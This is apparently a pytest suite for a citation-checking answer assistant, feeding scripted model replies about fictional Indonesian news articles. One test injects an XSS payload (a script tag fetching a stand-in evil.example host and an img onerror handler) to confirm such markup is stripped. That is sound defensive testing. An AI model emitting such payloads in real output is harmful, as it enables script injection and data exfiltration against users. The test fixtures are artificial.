"""What a person sees of a model's reply, whatever the model does.

Every reply comes over real HTTP from a scripted server. In all of them: each [n] in the
text has its citation, each quote is verbatim, nothing unsupported is shown as supported.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scripted_articles import (
    ARTICLES,
    HARVEST,
    MEETING,
    QUESTION,
    TRADE,
    number_of,
    write_articles,
)
from scripted_server import Script, ScriptedServer, scripted_server

from assistant import Assistant, Turn
from assistant.citations import UNSUPPORTED_NOTE, compose
from assistant.errors import ModelError, ModelUseless, SeedsError
from assistant.generative import GenerativeAnswerer, build_prompt
from assistant.llm.language_model import LanguageModel, Message, Patience
from assistant.llm.models import load_llm
from assistant.prompts import load_prompts, refusal_text
from assistant.types import Answer, Checked, Delta, Done, Draft, Passage, Retrieved

pytestmark = pytest.mark.allow_hosts(["127.0.0.1"])

BRIEF = Patience(connect=1, first_token=1.0, idle=0.5, total=2.0, attempts=3, backoff=0.02)
MARKER = re.compile(r"\[(\d+)\]")


@pytest.fixture(scope="module")
def running() -> Iterator[ScriptedServer]:
    with scripted_server() as server:
        yield server


@pytest.fixture
def server(running: ScriptedServer) -> ScriptedServer:
    running.requests.clear()
    running.written = 0
    return running


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_articles(tmp_path_factory.mktemp("generative") / "articles")


@pytest.fixture(scope="module")
def assistant(running: ScriptedServer, folder: Path) -> Iterator[Assistant]:
    # The first request imports the client, which takes seconds on a busy machine.
    running.script = Script(reply="Ya.")
    load_llm(running.spec).ping()
    model = load_llm(running.spec, patience=BRIEF)
    with Assistant.open(folder, index=folder.parent / "index", llm=model) as opened:
        yield opened
    model.close()


def holds(answer: Answer) -> Answer:
    """The laws that hold for every answer, whatever the model wrote."""
    numbers = [int(number) for number in MARKER.findall(answer.text)]
    assert list(dict.fromkeys(numbers)) == [c.number for c in answer.citations]
    assert [c.number for c in answer.citations] == list(range(1, len(answer.citations) + 1))
    for citation in answer.citations:
        assert ARTICLES[citation.file][citation.start : citation.end] == citation.quote
    for sentence in answer.sentences:
        assert answer.text[sentence.start : sentence.end] == sentence.text
        assert (sentence.support == "unsupported") == (not sentence.citations)
    if answer.status == "not_found":
        assert not answer.citations
        assert not numbers
    assert "http" not in answer.text
    assert "](" not in answer.text
    assert (answer.engine.answerer == "generative") == (answer.engine.note is None)
    json.dumps(answer.to_dict())
    return answer


def ask(assistant: Assistant, server: ScriptedServer, script: Script | str) -> Answer:
    server.script = script if isinstance(script, Script) else Script(reply=script)
    return holds(assistant.ask(QUESTION))


def cites(phrase: str, text: str) -> Callable[[str], str]:
    """A reply in which `@` stands for the number of the passage with this phrase."""
    return lambda prompt: text.replace("@", str(number_of(prompt, phrase)))


def gave_way(answer: Answer, why: str) -> None:
    assert answer.engine.answerer == "extractive"
    assert answer.engine.model is None
    assert why in (answer.engine.note or "")
    assert "12 Maret 2021" in answer.text, "the articles answer it without a model"


# ------------------------------------------------------------------------------ citations


@pytest.mark.parametrize(
    "form",
    [
        "{} [@].",
        "{}. [@]",
        "{}.[@]",
        "{} [@]",
        "{} [@][@].",
        "{} [@, @].",
        "{} 【@】.",
        "{} [Source @].",
        "{} [Sumber @].",
        "{} (@).",
        "{} [^@].",
        "{}.`[@]`",
        "{} [@](https://example.org/@).",
        "**{}** [@].",
        "- {} [@].",
        "Menurut [@], {}.",
    ],
)
def test_every_form_of_marker_becomes_one_citation(
    assistant: Assistant, server: ScriptedServer, form: str
) -> None:
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", form.format(MEETING))))
    assert answer.engine.answerer == "generative"
    assert [c.file for c in answer.citations] == ["kereta.txt"]
    assert "12 Maret 2021" in answer.citations[0].quote
    assert answer.sentences[0].support in ("quoted", "supported")
    assert answer.text == f"{answer.sentences[0].text} [1]"
    assert answer.unknown_markers == ()


@pytest.mark.parametrize("marker", ["[0]", "[99]", "[-1]", "[1-999999999]", "[n]", "[Source 77]"])
def test_a_marker_of_nothing_is_recorded_and_removed(
    assistant: Assistant, server: ScriptedServer, marker: str
) -> None:
    answer = ask(assistant, server, f"{MEETING} {marker}.")
    assert marker in answer.unknown_markers
    assert marker not in answer.text
    assert [c.file for c in answer.citations] == ["kereta.txt"]


def test_citations_are_numbered_by_first_use_and_narrowed_to_sentences(
    assistant: Assistant, server: ScriptedServer
) -> None:
    def reply(prompt: str) -> str:
        a, b = number_of(prompt, "memanen 18 juta"), number_of(prompt, "Morozov bertemu")
        return f"{HARVEST} [{a}]. {MEETING} [{b}]. {TRADE} [{b}]. {HARVEST}, kata berita [{a}]."

    answer = ask(assistant, server, Script(reply=reply))
    assert [c.file for c in answer.citations] == ["gandum.txt", "kereta.txt", "kereta.txt"]
    assert len({(c.start, c.end) for c in answer.citations[1:]}) == 2
    assert all(c.quote.count("\n") == 0 for c in answer.citations)


def test_an_uncited_sentence_gets_the_citation_that_supports_it(
    assistant: Assistant, server: ScriptedServer
) -> None:
    answer = ask(assistant, server, f"{MEETING}.")
    assert [c.file for c in answer.citations] == ["kereta.txt"]


def test_a_sentence_that_cites_the_wrong_passage_gets_the_right_one(
    assistant: Assistant, server: ScriptedServer
) -> None:
    answer = ask(assistant, server, Script(reply=cites("900 meter", f"{MEETING} [@].")))
    assert [c.file for c in answer.citations] == ["kereta.txt"]


@pytest.mark.parametrize(
    "altered",
    [
        MEETING.replace("12 Maret 2021", "14 Maret 2021"),
        MEETING.replace("2021", "2019"),
        MEETING.replace("Ratna Dewi", "Irina Volkova"),
        TRADE.replace("54 persen", "84 persen"),
        TRADE.replace("54 persen", "5,4 persen"),
        "Morozov menandatangani perjanjian militer dalam kunjungan itu",
        "Arkadia memanen 81 juta ton gandum pada musim panas 2021",
        "Jembatan Persahabatan sepanjang 900 kilometer menelan biaya 15 juta dolar",
    ],
)
def test_an_altered_fact_is_shown_marked_and_never_as_supported(
    assistant: Assistant, server: ScriptedServer, altered: str
) -> None:
    def reply(prompt: str) -> str:
        right = number_of(prompt, "Morozov bertemu")
        return f"{MEETING} [{right}]. {altered} [{right}]."

    answer = ask(assistant, server, Script(reply=reply))
    assert answer.engine.answerer == "generative"
    true, false = answer.sentences
    assert true.support in ("quoted", "supported")
    assert false.support == "unsupported"
    assert answer.text[false.end :].strip() == UNSUPPORTED_NOTE["id"]


def test_a_bibliography_of_the_models_own_is_dropped(
    assistant: Assistant, server: ScriptedServer
) -> None:
    text = (
        f"{MEETING} [@].\n\nDaftar Pustaka:\n[1] Suara Arkadia, 2021. https://example.org/a\n[2] X"
    )
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert "Pustaka" not in answer.text
    assert len(answer.sentences) == 1


# ----------------------------------------------------------------------------- misbehaviour


def test_own_knowledge_gives_way_to_the_articles(
    assistant: Assistant, server: ScriptedServer
) -> None:
    answer = ask(
        assistant,
        server,
        "Paris adalah ibu kota Prancis dan terletak di tepi Sungai Seine. Menara Eiffel "
        "dibangun pada 1889 oleh Gustave Eiffel.",
    )
    gave_way(answer, "in the articles")


def test_html_and_script_never_reach_the_text(assistant: Assistant, server: ScriptedServer) -> None:
    text = (
        f"<script>fetch('https://evil.example/?q=x')</script><b>{MEETING}</b> [@]. "
        f"<img src=x onerror=alert(1)> {TRADE} [@]. ![x](https://evil.example/p.png)"
    )
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert "<" not in answer.text
    assert "evil" not in answer.text
    assert answer.engine.answerer == "generative"
    assert {s.support for s in answer.sentences} <= {"quoted", "supported", "weak"}


def test_rambling_is_cut_off(assistant: Assistant, server: ScriptedServer) -> None:
    ramble = " ".join(
        f"Selain itu terdapat hal nomor {i} yang menarik untuk dibahas lebih lanjut di sini."
        for i in range(400)
    )
    script = Script(
        reply=cites("Morozov bertemu", f"{MEETING} [@]. {ramble}"), piece=40, pause=0.001
    )
    answer = ask(assistant, server, script)
    assert len(answer.sentences) <= 15
    assert answer.sentences[0].citations == (1,)
    assert {s.support for s in answer.sentences[1:]} == {"unsupported"}
    time.sleep(0.1)
    assert server.written < len(ramble), "the model was told to stop"


@pytest.mark.parametrize(
    "loop",
    [
        "Sinabulat. " * 300,
        "Kim datang ke kota itu dengan kereta hijau pada hari Senin pagi yang cerah sekali. " * 40,
        "aaaa" * 500,
        f"{MEETING} [1]. " * 50,
        "\n\n- [1]\n" * 300,
    ],
)
def test_a_loop_gives_way(assistant: Assistant, server: ScriptedServer, loop: str) -> None:
    gave_way(ask(assistant, server, loop), "over and over")


@pytest.mark.parametrize(
    "reply", ["", "   \n\n ", "[1][2]", "...", "```\n```", "<br><br>", "[1].\n", "2023: 54", "Isi:"]
)
def test_an_empty_reply_gives_way(assistant: Assistant, server: ScriptedServer, reply: str) -> None:
    gave_way(ask(assistant, server, reply), "nothing")


@pytest.mark.parametrize(
    "reply",
    [
        "Президент Морозов встретился с премьер-министром в портовом городе весной.",
        "莫罗佐夫总统于二〇二一年三月十二日在港口城市会见了总理。" * 3,
    ],
)
def test_another_script_gives_way(assistant: Assistant, server: ScriptedServer, reply: str) -> None:
    gave_way(ask(assistant, server, reply), "script")


def test_another_language_gives_way(assistant: Assistant, server: ScriptedServer) -> None:
    english = (
        "President Lev Morozov of Arkadia met Prime Minister Ratna Dewi in Kota Samudra on "
        "12 March 2021 [@]. The meeting lasted three hours and was about the trade in wheat [@]."
    )
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", english)))
    gave_way(answer, "")


def test_a_foreign_name_in_its_own_script_is_no_other_script(
    assistant: Assistant, server: ScriptedServer
) -> None:
    text = f"{MEETING} [@]. Nama Morozov ditulis Морозов dalam bahasa Arkadia."
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert answer.engine.answerer == "generative"


def test_thinking_aloud_is_left_out(assistant: Assistant, server: ScriptedServer) -> None:
    text = f"<think>Hmm, 14 Maret 1999? [7] ...</think>\n{MEETING} [@]."
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text), piece=2))
    assert "1999" not in answer.text
    assert answer.unknown_markers == ()
    assert len(answer.sentences) == 1


def test_labels_copied_from_the_prompt_are_left_out(
    assistant: Assistant, server: ScriptedServer
) -> None:
    text = f"Jawaban: {MEETING} [@].\nKutipan yang mendukung jawaban itu adalah:\n- {TRADE} [@]."
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert [s.text for s in answer.sentences] == [f"{MEETING}.", f"{TRADE}."]


@pytest.mark.parametrize(
    "echo",
    [
        "Kereta Hijau Tiba di Kota Pelabuhan",
        "Artikel Kereta Hijau Tiba di Kota Pelabuhan...",
        "The passage that supports",
        "Kutipan artikel, masing-masing di antara dua baris yang diawali tanda.",
        "Nilai perdagangan kedua negara na\ufffdk pada 2020.",
    ],
)
def test_an_echo_of_the_prompt_and_broken_text_are_left_out(
    assistant: Assistant, server: ScriptedServer, echo: str
) -> None:
    answer = ask(
        assistant, server, Script(reply=cites("Morozov bertemu", f"{MEETING} [@].\n{echo}"))
    )
    assert [s.text for s in answer.sentences] == [f"{MEETING}."]


def test_small_talk_is_left_out(assistant: Assistant, server: ScriptedServer) -> None:
    text = f"Tentu! Berikut jawabannya:\n\n{MEETING} [@]. Semoga membantu!"
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert [s.text for s in answer.sentences] == [f"{MEETING}."]


# -------------------------------------------------------------------------------- refusals


@pytest.mark.parametrize(
    "reply",
    [
        refusal_text("id"),
        refusal_text("id") + " [1]",
        refusal_text("en"),
        "Maaf, saya tidak dapat menemukan jawabannya dalam kutipan.",
        "Kutipan yang diberikan tidak memuat informasi tentang hal itu.",
        refusal_text("id") + " Namun, Paris adalah ibu kota Prancis sejak abad pertengahan.",
    ],
)
def test_a_refusal_is_not_found_and_cites_nothing(
    assistant: Assistant, server: ScriptedServer, reply: str
) -> None:
    answer = ask(assistant, server, reply)
    assert answer.status == "not_found"
    assert answer.engine.answerer == "generative"
    assert answer.sentences == ()
    assert answer.nearest


def test_a_refusal_beside_supported_sentences_leaves_those(
    assistant: Assistant, server: ScriptedServer
) -> None:
    text = f"{MEETING} [@]. {refusal_text('id')}"
    answer = ask(assistant, server, Script(reply=cites("Morozov bertemu", text)))
    assert [s.text for s in answer.sentences] == [f"{MEETING}."]


# ------------------------------------------------------------------------------- the wire


@pytest.mark.parametrize(
    ("script", "why"),
    [
        (Script(reply=f"{MEETING} [1].", cut_after=30), "broke off"),
        (Script(reply=f"{MEETING} [1].", cut_after=30, abrupt=False), "broke off"),
        (Script(failures=(401,) * 9), "key"),
        (Script(failures=(404,) * 9), "know the model"),
        (Script(failures=(500,) * 9), "HTTP 500"),
        (Script(failures=(400,) * 9, error={"code": "context_length_exceeded"}), "context"),
        (Script(reply="Ya.", delay=9), "wrote nothing"),
        (Script(reply="kata lain lagi " * 99, piece=1, pause=0.15), "in the time"),
        (Script(reply="Ya.", piece=1, pause=5), "wrote nothing"),
        (Script(garbage=b"<html>hello</html>"), "no reply"),
    ],
)
def test_a_failing_service_gives_way_and_the_note_says_why(
    assistant: Assistant, server: ScriptedServer, script: Script, why: str
) -> None:
    started = time.monotonic()
    gave_way(ask(assistant, server, script), why)
    assert time.monotonic() - started < 8


def test_a_busy_service_is_asked_again(assistant: Assistant, server: ScriptedServer) -> None:
    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [@]."), failures=(429, 503))
    answer = ask(assistant, server, script)
    assert answer.engine.answerer == "generative"
    assert len(server.requests) == 3


def test_a_server_without_streaming_gives_the_same_answer(
    assistant: Assistant, server: ScriptedServer
) -> None:
    reply = cites("Morozov bertemu", f"{MEETING} [@]. {TRADE} [@].")
    streamed = ask(assistant, server, Script(reply=reply))
    whole = ask(assistant, server, Script(reply=reply, plain_json=True))
    assert (streamed.text, streamed.citations) == (whole.text, whole.citations)


def test_a_prompt_that_is_too_long_is_sent_again_shorter(
    assistant: Assistant, server: ScriptedServer
) -> None:
    script = Script(
        reply=cites("Morozov bertemu", f"{MEETING} [@]."),
        failures=(400,),
        error={"code": "context_length_exceeded"},
    )
    assert ask(assistant, server, script).engine.answerer == "generative"
    assert len(server.requests[1].prompt) <= len(server.requests[0].prompt)


# ------------------------------------------------------------------------------ streaming


def test_events_come_in_order_and_the_last_holds_the_whole(
    assistant: Assistant, server: ScriptedServer
) -> None:
    text = f"{MEETING} [@]. {TRADE} [@]. {HARVEST} [@]."
    server.script = Script(reply=cites("Morozov bertemu", text), piece=4)
    events = list(assistant.stream(QUESTION))
    assert isinstance(events[0], Retrieved)
    assert isinstance(events[-1], Done)
    first_checked = next(i for i, e in enumerate(events) if isinstance(e, Checked))
    last_delta = max(i for i, e in enumerate(events) if isinstance(e, Delta))
    assert first_checked < last_delta, "a sentence is checked before the next is written"
    answer = holds(events[-1].answer)
    assert [e.sentence for e in events if isinstance(e, Checked)] == list(answer.sentences)
    prompt = server.requests[-1].body["messages"][-1]["content"]
    written = "".join(e.text for e in events if isinstance(e, Delta))
    assert written == cites("Morozov bertemu", text)(prompt)


def test_closing_the_stream_stops_the_model(assistant: Assistant, server: ScriptedServer) -> None:
    server.script = Script(reply="kata yang lain lagi " * 999, piece=5, pause=0.005)
    events = assistant.stream(QUESTION)
    assert isinstance(next(events), Retrieved)
    assert isinstance(next(events), Delta)
    events.close()  # type: ignore[attr-defined]
    time.sleep(0.1)
    written = server.written
    time.sleep(0.2)
    assert server.written == written


def test_the_same_question_sends_the_same_prompt_and_gives_the_same_answer(
    assistant: Assistant, server: ScriptedServer
) -> None:
    script = Script(reply=cites("Morozov bertemu", f"{MEETING} [@]. {HARVEST} [3]."))
    first, second = (ask(assistant, server, script).to_dict() for _ in range(2))
    first.pop("timings_ms"), second.pop("timings_ms")
    assert first == second
    assert server.requests[0].body == server.requests[1].body


def test_json_has_the_same_shape_with_and_without_a_model_and_can_be_replayed(
    assistant: Assistant, server: ScriptedServer, folder: Path
) -> None:
    def shape(value: object) -> object:
        if isinstance(value, dict):
            return {key: shape(inner) for key, inner in value.items() if key != "timings_ms"}
        if isinstance(value, list):
            return [shape(inner) for inner in value[:1]]
        return None

    reply = cites("Morozov bertemu", f"{MEETING} [@]. Ia lahir pada 1950. {TRADE} [@].")
    written = json.loads(json.dumps(ask(assistant, server, Script(reply=reply)).to_dict()))
    with Assistant.open(folder, index=folder.parent / "index2") as plain:
        quoted = json.loads(json.dumps(plain.ask(QUESTION).to_dict()))
    for one in (written, quoted):
        one["nearest"] = one["unknown_markers"] = []
    assert shape(written) == shape(quoted)

    # The text can be written again from sentences and citations alone.
    replayed = ""
    for sentence in written["sentences"]:
        replayed += " " * bool(replayed) + sentence["text"]
        replayed += " " * bool(sentence["citations"])
        replayed += "".join(f"[{number}]" for number in sentence["citations"])
        if sentence["support"] == "unsupported":
            replayed += f" {UNSUPPORTED_NOTE['id']}"
    assert replayed == written["text"]


# ------------------------------------------------------------------------ policy and parts


class Scripted(LanguageModel):
    """A model that writes these pieces."""

    def __init__(self, pieces: list[str], *, context_tokens: int = 8_192) -> None:
        super().__init__(None, name="scripted", context_tokens=context_tokens)
        self.pieces = pieces
        self.asked: list[tuple[Message, ...]] = []

    def stream(self, messages):  # type: ignore[no-untyped-def]
        self.asked.append(tuple(messages))
        yield from self.pieces


@pytest.fixture(scope="module")
def passages(assistant: Assistant) -> list[Passage]:
    return assistant.retrieve(QUESTION, k=8)


def drafted(
    pieces: list[str], passages: list[Passage], *, policy: str = "mark", language: str = "id"
) -> Draft:
    answerer = GenerativeAnswerer(Scripted(pieces), policy=policy)  # type: ignore[arg-type]
    *_, last = answerer.draft(QUESTION, language, passages, ())  # type: ignore[arg-type]
    assert isinstance(last, Draft)
    return last


def test_strict_drops_what_is_unsupported(passages: list[Passage]) -> None:
    reply = f"{MEETING}. Ia lahir di Paris pada 1950. {TRADE}."
    draft = drafted([reply], passages, policy="strict")
    assert [s.text for s in draft.sentences] == [f"{MEETING}.", f"{TRADE}."]
    marked = drafted([reply], passages)
    assert [s.support for s in marked.sentences][1] == "unsupported"


def test_strict_with_nothing_left_is_not_found(passages: list[Passage]) -> None:
    reply = ["Paris adalah ibu kota Prancis dan terletak di tepi Sungai Seine."]
    assert drafted(reply, passages, policy="strict").sentences == ()
    with pytest.raises(ModelUseless):
        drafted(reply, passages)


def test_a_sentence_that_was_cut_off_is_not_shown(passages: list[Passage]) -> None:
    draft = drafted([f"{MEETING}. {TRADE[:31]}"], passages)
    assert [s.text for s in draft.sentences] == [f"{MEETING}."]
    alone = drafted([MEETING], passages)
    assert [s.text for s in alone.sentences] == [MEETING]


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                f"{MEETING} [1]. ",
                f"{TRADE} [2]. ",
                f"{HARVEST} 【3】.\n",
                "Ia lahir pada 1950. ",
                "<think>x</think>",
                "[9] ",
                "- ",
                "Artikel-artikel ini tidak memuat jawabannya. ",
                "https://evil.example/x ",
                "<b>Ya</b> ",
                "“Kami senang,” katanya. ",
            ]
        ),
        max_size=6,
    ),
    st.randoms(use_true_random=False),
)
def test_however_the_stream_is_cut_the_draft_is_the_same(
    passages: list[Passage],
    parts: list[str],
    random,  # type: ignore[no-untyped-def]
) -> None:
    text = "".join(parts)
    pieces, at = [], 0
    while at < len(text):
        size = random.randint(1, 25)
        pieces.append(text[at : at + size])
        at += size

    def outcome(pieces: list[str]) -> Draft | str:
        try:
            return drafted(pieces, passages)
        except ModelError as error:
            return str(error)

    whole, cut = outcome([text]), outcome(pieces)
    assert whole == cut
    if isinstance(cut, Draft):
        composed = compose(cut, language="id", mark_unsupported=True)
        for citation in composed.citations:
            assert ARTICLES[citation.file][citation.start : citation.end] == citation.quote


# ------------------------------------------------------------------------------- the prompt


def prompt_for(
    passages: list[Passage], *, question: str = QUESTION, history: tuple[Turn, ...] = ()
) -> str:
    model = Scripted([])
    built = build_prompt(load_prompts(), model, question, "id", passages, history)
    assert [message.role for message in built.messages] == ["system", "user"]
    return "\n".join(message.text for message in built.messages)


def test_passages_are_numbered_attributed_and_fenced(passages: list[Passage]) -> None:
    prompt = prompt_for(passages)
    for number, passage in enumerate(passages, 1):
        assert f"Kutipan [{number}]\nJudul: {passage.title}\n" in prompt
        assert passage.text in prompt
        assert passage.published in prompt
    fence = re.search(r"#[0-9a-f]{12}", prompt)
    assert fence
    assert all(fence[0] not in passage.text for passage in passages)
    assert refusal_text("id") in prompt


def test_the_fence_differs_by_question_and_by_passages(passages: list[Passage]) -> None:
    fences = {
        re.search(r"#[0-9a-f]{12}", prompt)[0]  # type: ignore[index]
        for prompt in (
            prompt_for(passages),
            prompt_for(passages, question="Siapa?"),
            prompt_for(passages[:-1]),
        )
    }
    assert len(fences) == 3


def test_history_is_in_the_prompt_and_bounded(passages: list[Passage]) -> None:
    turns = tuple(Turn(f"Pertanyaan ke-{i}?", "jawaban " * 400) for i in range(50))
    prompt = prompt_for(passages, history=turns)
    assert "Pertanyaan ke-49?" in prompt
    assert "Pertanyaan ke-1?" not in prompt
    assert all(passage.text in prompt for passage in passages)


def test_an_english_question_is_answered_in_english(
    assistant: Assistant, server: ScriptedServer
) -> None:
    server.script = Script(reply=refusal_text("en"))
    answer = holds(assistant.ask("When did President Morozov meet Ratna Dewi in the city?"))
    assert answer.language == "en"
    assert "Answer in English" in server.requests[-1].prompt
    assert answer.text == refusal_text("en") or answer.status == "not_found"


@pytest.mark.parametrize("junk", ["2021: 2021", "#d01d5a784e39", "Kapan itu?", "14 / 5"])
def test_figures_codes_and_questions_are_left_out(
    assistant: Assistant, server: ScriptedServer, junk: str
) -> None:
    reply = cites("12 Maret 2021", f"{MEETING} [@].\n{junk}\n{MEETING} [@].")
    answer = ask(assistant, server, Script(reply=reply))
    assert answer.engine.answerer == "generative"
    assert junk not in answer.text
    gave_way(ask(assistant, server, junk), "nothing that can be used")


def test_a_sentence_that_is_cut_off_is_weak_at_most(
    assistant: Assistant, server: ScriptedServer
) -> None:
    words = MEETING.split()
    half = " ".join(words[: len(words) * 3 // 4]).rstrip(",.")
    answer = ask(assistant, server, half)
    assert all(s.support != "supported" for s in answer.sentences)


def test_with_and_without_a_model_people_read_one_refusal(assistant: Assistant) -> None:
    nonsense = "Siapa juara bulu tangkis Olimpiade 1992?"
    plain = assistant.with_llm(None).ask(nonsense)
    assert plain.status == "not_found"
    assert plain.text == refusal_text("id")


def test_closing_closes_the_models_that_were_loaded_from_a_spec(
    server: ScriptedServer, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    closed: list[str] = []
    monkeypatch.setattr(LanguageModel, "close", lambda model: closed.append(model.name))
    own = load_llm(f"{server.url}#handed-in")
    with Assistant.open(folder, index=tmp_path, llm=f"{server.url}#first") as opened:
        opened.with_llm(f"{server.url}#second")
        opened.with_llm(own)
        assert closed == []
    assert [name.partition("#")[2] for name in closed] == ["first", "second"]


def test_a_model_is_closed_when_the_articles_cannot_be_opened(
    server: ScriptedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    closed: list[str] = []
    monkeypatch.setattr(LanguageModel, "close", lambda model: closed.append(model.name))
    with pytest.raises(SeedsError):
        Assistant.open(tmp_path / "none", index=tmp_path / "index", llm=f"{server.url}#first")
    assert len(closed) == 1
